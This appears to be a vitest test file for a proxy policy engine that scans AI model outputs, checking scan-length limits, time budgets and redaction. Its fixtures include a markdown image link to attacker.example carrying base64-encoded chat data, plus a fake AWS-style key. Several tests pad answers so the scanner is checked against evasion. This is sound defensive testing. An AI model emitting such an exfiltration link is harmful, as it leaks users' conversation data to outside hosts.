/**
 * Content cannot switch a rule off: an output too long to scan, or slow to scan, is decided by
 * the rule's own action (fail closed); only a check that throws is an `error`, which `on_error`
 * governs.
 */
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { Choice, NormalisedResponse } from '../../src/model/exchange.js';
import type { Check } from '../../src/policy/checks/types.js';
import type { PolicySet } from '../../src/policy/compiled.js';
import type { EngineLimits } from '../../src/policy/engine.js';
import { blockMessage, evaluate, scanCut } from '../../src/policy/engine.js';
import { loadPolicySet } from '../../src/policy/loader.js';
import { redactChoices } from '../../src/policy/redact.js';
import { REQUEST } from '../helpers/check-input.js';
import { handPolicy, policySetFrom } from '../helpers/policy.js';

/** The configuration defaults: `checks.max_scan_chars` and `checks.time_budget`. */
const DEFAULTS: EngineLimits = { maxScanChars: 1_048_576, budgetMs: 100 };
const SMALL: EngineLimits = { maxScanChars: 1000, budgetMs: 10_000 };

const KEY = 'AKIAZ7QX3MPLW5N2RTVB';
const IMAGE = '![chart](https://attacker.example/c.png?d=c2VjcmV0LWRhdGEtZnJvbS10aGUtY2hhdA)';

const choice = (text: string, over: Partial<Choice> = {}): Choice => ({
  index: 0,
  text,
  toolCalls: [],
  finishReason: 'stop',
  ...over,
});
const response = (...choices: Choice[]): NormalisedResponse => ({
  id: undefined,
  model: undefined,
  fingerprint: undefined,
  usage: undefined,
  choices,
});
const run = (set: PolicySet, res: NormalisedResponse, limits: EngineLimits, req = REQUEST) =>
  evaluate(set, { upstream: 'u', request: req, response: res }, limits);
const redacted = (res: NormalisedResponse, v: ReturnType<typeof evaluate>) =>
  redactChoices(res.choices, v.results)[0];

const defaultPack = (() => {
  const r = loadPolicySet({
    patterns: ['policies/default.yaml'],
    baseDir: fileURLToPath(new URL('../..', import.meta.url)),
  });
  if (!r.ok) throw new Error('the default pack does not load');
  return r.set;
})();

const regexPolicy = (action: string, extra = '') =>
  policySetFrom({
    'p.yaml': `name: p
${extra}
rules:
  - id: launch
    check: regex
    params: { pattern: "LAUNCH-[0-9]{4}" }
    action: ${action}
`,
  });

describe('an output longer than checks.max_scan_chars', () => {
  const padding = 'lorem ipsum '.repeat(200);

  it.each(['block', 'redact', 'flag'] as const)(
    'is scanned up to the limit and the remainder takes the rule action %s',
    (action) => {
      const text = `see LAUNCH-1234 ${padding}`;
      const res = response(choice(text));
      const v = run(regexPolicy(action), res, SMALL);
      expect(v.decision).toBe(action);
      const r = v.results[0]!;
      expect(r.status).toBe('fail');
      expect(r.detail).toMatch(/exceeds the 1000-character scan limit/);
      expect(r.detail).not.toContain('lorem');
      const cut = scanCut(text, SMALL.maxScanChars);
      expect(cut).toBeLessThanOrEqual(1000);
      // The match in the scanned part, then the remainder as one span.
      expect(r.spans).toEqual([
        { start: 4, end: 15 },
        { start: cut, end: text.length },
      ]);
      if (action === 'block') expect(blockMessage(v.blockedBy!)).toMatch(/blocked this response/);
      if (action === 'redact')
        expect(redacted(res, v)?.text).toBe(
          `see [REDACTED:launch] ${text.slice(16, cut)}[REDACTED:launch]`,
        );
    },
  );

  it('fails the rule even when the scanned part is clean', () => {
    const v = run(regexPolicy('redact'), response(choice(padding)), SMALL);
    expect(v.decision).toBe('redact');
    expect(v.results[0]?.spans).toHaveLength(1);
  });

  it('cuts tool-call arguments each at the limit, spans naming their call', () => {
    const args = JSON.stringify({ q: `LAUNCH-0001 ${padding}` });
    const res = response(choice('short', { toolCalls: [{ id: 'a', name: 'f', arguments: args }] }));
    const v = run(regexPolicy('redact'), res, SMALL);
    expect(v.decision).toBe('redact');
    const cut = scanCut(args, SMALL.maxScanChars);
    expect(v.results[0]?.spans).toEqual([
      { start: 6, end: 17, toolCall: 0 },
      { start: cut, end: args.length, toolCall: 0 },
    ]);
    const edit = redacted(res, v)!;
    expect(edit.text).toBeUndefined();
    expect(edit.toolCallArguments.get(0)).toBe(
      `${args.slice(0, 6)}[REDACTED:launch]${args.slice(17, cut)}[REDACTED:launch]`,
    );
  });

  it('takes a token straddling the limit whole into the remainder (no half key shown)', () => {
    const text = `${'a '.repeat(495)}key ${KEY} and more text after it ${padding}`;
    expect(text.indexOf(KEY)).toBeLessThan(1000);
    expect(text.indexOf(KEY) + KEY.length).toBeGreaterThan(1000);
    const res = response(choice(text));
    const v = run(defaultPack, res, SMALL);
    const out = redacted(res, v)?.text ?? text;
    expect(out).not.toContain(KEY.slice(0, 4));
    expect(out.endsWith('key [REDACTED:leaked-credentials]')).toBe(true);
  });

  it('never splits a surrogate pair', () => {
    const text = `${'x'.repeat(999)}😀${'y'.repeat(10)}`;
    expect(scanCut(text, 1000)).toBe(999);
    const long = 'x'.repeat(5000);
    expect(scanCut(`${long}😀${long}`, 5001)).toBe(5000);
  });

  it('counts stream text the proxy did not keep as unscanned', () => {
    const res = response(choice('all clean', { omittedChars: 5_000 }));
    const v = run(regexPolicy('flag'), res, SMALL);
    expect(v.decision).toBe('flag');
    expect(v.results[0]).toMatchObject({ status: 'fail', spans: [] });
    expect(v.results[0]?.detail).toMatch(/5009 characters exceeds/);
  });

  it.each([
    ['reasoning', { reasoning: 'all clean', omittedReasoningChars: 5_000 }],
    ['refusal', { refusal: 'all clean', omittedRefusalChars: 5_000 }],
  ])('counts %s text the proxy did not keep as unscanned too', (_field, extra) => {
    const res = response(choice('fine', extra));
    const v = run(regexPolicy('flag'), res, SMALL);
    expect(v.decision).toBe('flag');
    expect(v.results[0]?.detail).toMatch(/5009 characters exceeds/);
    // Kept in full, the same text passes.
    const kept = { ...extra, omittedReasoningChars: undefined, omittedRefusalChars: undefined };
    expect(run(regexPolicy('flag'), response(choice('fine', kept)), SMALL).decision).toBe('pass');
  });

  it('does not fail checks that read only a prefix or metadata', () => {
    const set = policySetFrom({
      'p.yaml': `name: p
rules:
  - { id: refusal, check: refusal, action: block }
  - { id: finish, check: finish-reason, action: block }
  - { id: short, check: length, params: { min_chars: 10 }, action: block }
  - { id: long, check: length, params: { max_chars: 2000 }, action: block }
`,
    });
    const v = run(set, response(choice(padding)), SMALL);
    expect(v.results.map((r) => [r.rule, r.status])).toEqual([
      ['refusal', 'pass'],
      ['finish', 'pass'],
      ['short', 'pass'],
      ['long', 'fail'],
    ]);
    const omitted = run(set, response(choice('x'.repeat(20), { omittedChars: 5000 })), SMALL);
    expect(omitted.results.find((r) => r.rule === 'long')?.status).toBe('fail');
  });

  it('fails only rules whose check reads the part that was cut', () => {
    const set = policySetFrom({
      'p.yaml': `name: p
rules:
  - { id: tools, check: tool-calls, params: { require_declared: false }, action: block }
  - { id: exfil, check: markdown-exfiltration, action: redact }
  - { id: shape, check: json-schema, params: { schema_from: request }, action: block }
  - { id: words, check: contains, params: { words: [badger] }, action: flag }
`,
    });
    const longText = response(choice(padding));
    expect(run(set, longText, SMALL).results.map((r) => [r.rule, r.status])).toEqual([
      ['tools', 'pass'],
      ['exfil', 'fail'],
      ['shape', 'pass'],
      ['words', 'fail'],
    ]);
    const structured = run(set, longText, SMALL, {
      ...REQUEST,
      responseSchema: { type: 'object' },
    });
    expect(structured.results.find((r) => r.rule === 'shape')?.status).toBe('fail');
    const longArgs = response(
      choice('', {
        toolCalls: [{ id: 'a', name: 'f', arguments: JSON.stringify({ q: padding }) }],
      }),
    );
    const v = run(set, longArgs, SMALL);
    expect(v.results.map((r) => [r.rule, r.status])).toEqual([
      ['tools', 'fail'],
      ['exfil', 'pass'],
      ['shape', 'pass'],
      ['words', 'fail'],
    ]);
    // The cut arguments are not valid JSON (the check's own span), and the rest is unscanned.
    const args = JSON.stringify({ q: padding });
    expect(v.results[0]?.spans).toEqual([
      { start: 0, end: scanCut(args, 1000), toolCall: 0 },
      { start: scanCut(args, 1000), end: args.length, toolCall: 0 },
    ]);
  });

  it('is recorded, not enforced, in shadow mode', () => {
    const v = run(regexPolicy('block', 'mode: shadow'), response(choice(padding)), SMALL);
    expect(v.decision).toBe('pass');
    expect(v.results[0]).toMatchObject({ status: 'fail', mode: 'shadow' });
  });
});

describe('the default pack on padded answers, with the default limits', () => {
  const prose =
    'The canary sings while the miners work, and the air stays clean because someone is watching. ';
  const paddings: [string, (n: number) => string][] = [
    ['prose', (n) => prose.repeat(Math.ceil(n / prose.length)).slice(0, n)],
    ['open brackets', (n) => '['.repeat(n)],
    ['empty links', (n) => '[](x'.repeat(n / 4)],
    ['html tags', (n) => '<img '.repeat(n / 5)],
    ['bare urls', (n) => 'http://a '.repeat(n / 9)],
    ['jwt-like', (n) => 'eyJ-'.repeat(n / 4)],
    ['keywords', (n) => 'key secret token '.repeat(n / 17)],
    ['zero width', (n) => 'a\u200d'.repeat(n / 2)],
  ];

  it.each(paddings)('redacts a credential after 200K characters of %s', (_name, pad) => {
    const text = `${pad(200_000)}\n\nYour key is ${KEY} and ${IMAGE}\n`;
    const res = response(choice(text));
    const v = run(defaultPack, res, DEFAULTS);
    expect(v.decision).not.toBe('pass');
    const out = redacted(res, v)?.text ?? text;
    expect(out).not.toContain(KEY);
    expect(out).not.toContain('attacker.example');
    for (const r of v.results) expect(r.status).not.toBe('error');
  });

  it('redacts the remainder past max_scan_chars', () => {
    const text = `${paddings[0]![1](DEFAULTS.maxScanChars + 10)} ${KEY} ${IMAGE}`;
    const res = response(choice(text));
    const v = run(defaultPack, res, DEFAULTS);
    expect(v.decision).toBe('redact');
    const out = redacted(res, v)!.text!;
    expect(out).not.toContain(KEY);
    expect(out).not.toContain('attacker.example');
    expect(out.length).toBeLessThanOrEqual(DEFAULTS.maxScanChars + 40);
    expect(out).toMatch(/\[REDACTED:leaked-credentials\]$/);
  });

  it('keeps every result when the budget is exhausted (budget 0)', () => {
    const text = `${paddings[0]![1](200_000)} ${KEY} ${IMAGE}`;
    const res = response(choice(text));
    const v = run(defaultPack, res, { maxScanChars: DEFAULTS.maxScanChars, budgetMs: 0 });
    expect(v.decision).toBe('redact');
    expect(v.results.every((r) => r.status !== 'error')).toBe(true);
    expect(v.results.filter((r) => r.status === 'fail').map((r) => r.rule)).toEqual([
      'leaked-credentials',
      'markdown-exfiltration',
    ]);
    expect(v.results.some((r) => r.overBudget)).toBe(true);
    expect(redacted(res, v)?.text).not.toContain(KEY);
  });
});

describe('a check that overruns checks.time_budget', () => {
  const slowFail: Check = {
    evaluate(input) {
      const end = performance.now() + 30;
      while (performance.now() < end);
      return { status: 'fail', spans: [{ start: 0, end: input.text.length }], detail: 'found' };
    },
  };
  const slowPass: Check = {
    evaluate() {
      const end = performance.now() + 30;
      while (performance.now() < end);
      return { status: 'pass' };
    },
  };

  it.each(['block', 'redact', 'flag'] as const)(
    'keeps its fail verdict (action %s), marked overBudget',
    (action) => {
      for (const onError of ['open', 'closed'] as const) {
        const set = handPolicy({ onError, rules: [{ id: 'slow', action, instance: slowFail }] });
        const v = run(set, response(choice('secret')), { maxScanChars: 1000, budgetMs: 5 });
        expect(v.decision).toBe(action);
        expect(v.results[0]).toMatchObject({
          status: 'fail',
          overBudget: true,
          spans: [{ start: 0, end: 6 }],
        });
      }
    },
  );

  it('keeps a pass as a pass, even under on_error: closed', () => {
    const set = handPolicy({
      onError: 'closed',
      rules: [{ id: 'slow', action: 'block', instance: slowPass }],
    });
    const v = run(set, response(choice('fine')), { maxScanChars: 1000, budgetMs: 5 });
    expect(v.decision).toBe('pass');
    expect(v.results[0]).toMatchObject({ status: 'pass', overBudget: true });
  });

  it('is not marked when within budget', () => {
    const v = run(regexPolicy('block'), response(choice('fine')), DEFAULTS);
    expect(v.results[0]).not.toHaveProperty('overBudget');
  });
});

describe('a check that throws (a genuine internal error) follows on_error', () => {
  const throws: Check = {
    evaluate() {
      throw new RangeError(`internal failure near ${KEY}`);
    },
  };

  it.each([
    ['open', 'block', 'pass'],
    ['closed', 'block', 'block'],
    ['open', 'redact', 'pass'],
    ['closed', 'flag', 'block'],
  ] as const)('on_error %s, action %s: %s', (onError, action, decision) => {
    const set = handPolicy({ onError, rules: [{ id: 'x', action, instance: throws }] });
    const v = run(set, response(choice('hello')), DEFAULTS);
    expect(v.decision).toBe(decision);
    expect(v.results[0]).toMatchObject({ status: 'error', detail: 'check failed with RangeError' });
    if (decision === 'block') expect(blockMessage(v.blockedBy!)).toMatch(/could not check/);
  });

  it.each([
    ['open', 'redact'],
    ['closed', 'block'],
  ] as const)(
    'on an output over the limit: the remainder still fails (on_error %s → %s)',
    (onError, decision) => {
      const set = handPolicy({ onError, rules: [{ id: 'x', action: 'redact', instance: throws }] });
      const v = run(set, response(choice('z'.repeat(2000))), SMALL);
      expect(v.decision).toBe(decision);
      expect(v.results[0]?.status).toBe('fail');
      expect(v.results[0]?.detail).toMatch(/scan limit.*RangeError/);
      expect(v.results[0]?.detail).not.toContain(KEY);
    },
  );
});
